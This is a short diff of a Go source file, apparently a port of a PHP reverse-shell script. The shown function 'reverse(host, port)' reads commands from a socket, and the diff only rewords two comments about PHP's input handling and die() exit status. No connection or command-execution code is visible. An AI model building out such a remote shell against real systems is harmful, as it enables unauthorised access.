@@ -39,7 +39,7 @@ func reverse(host string, port int) {
 	}
 	// $input = socket_read($spawn, 1024) or die("Could not read input\n");
 	input, err := socket.Read(spawn, 1024)
-	if err != nil || input == "" { // PHP also takes "0" for no input
+	if err != nil || input == "" { // PHP also treats "0" as no input
 		die("Could not read input\n")
 	}
 	// $input = trim($input);
@@ -55,7 +55,7 @@ func reverse(host string, port int) {
 }
 
 // die prints a message and exits, like PHP's die(), but with status 1. PHP's status is 0,
-// which a shell takes for success.
+// which means success to a shell.
 func die(message string) {
 	fmt.Print(message)
 	os.Exit(1)
